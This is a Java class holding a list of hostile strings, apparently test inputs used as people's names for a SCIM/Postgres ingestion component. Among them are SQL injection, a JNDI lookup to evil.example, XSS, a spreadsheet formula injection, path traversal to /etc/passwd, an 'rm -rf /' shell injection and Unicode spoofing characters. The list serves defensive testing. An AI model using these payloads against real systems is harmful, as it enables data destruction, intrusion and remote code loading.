package io.pgscim.ingest.hostile;

import java.util.List;

/** Texts that mean something to somebody on their way; here they are names of people. */
final class Nasty {
  static final List<String> TEXTS =
      List.of(
          "'; DROP TABLE people; --",
          "' OR '1'='1",
          "\" or userName pr or title eq \"",
          "x') UNION SELECT 1 --",
          "$1",
          "$$; SELECT pg_sleep(60); $$",
          "E'\\\\x00'",
          "\\'; --",
          "$.userName ? (@ == \"x\")",
          "{\"$ne\": null}",
          "#>> '{}'",
          "%",
          "_%_",
          "(a+)+$",
          ".*",
          "[[:alpha:]]",
          "%s%n%x%d",
          "{0} {} ${}",
          "${jndi:ldap://evil.example/a}",
          "#{7*7} ${7*7} {{7*7}}",
          "a\r\nSet-Cookie: x=1",
          "a\n2026-01-01 INFO forged line",
          "<script>alert(1)</script>",
          "\"><img src=x onerror=alert(1)>",
          "=cmd|' /C calc'!A0",
          "../../../../etc/passwd",
          "; rm -rf / #",
          "`id` $(id)",
          "\u202Egnp.exe",
          "\u200Bzero\u200Dwidth\uFEFF",
          "\u0430dmin",
          "e\u0301",
          "\uFB01",
          "\u0130\u0131",
          "\uFF21\uFF22",
          "\uD83D\uDE00\uD83C\uDDE9\uD83C\uDDEA",
          "\uFFFE\uFFFF",
          "\u001B[2J\u001B[31m",
          "\u0007\u0008\u007F\u0085\u2028\u2029",
          "null",
          "true",
          "__proto__",
          "NaN",
          "1e999",
          " leading and trailing ",
          "\\u0000");

  private Nasty() {}
}
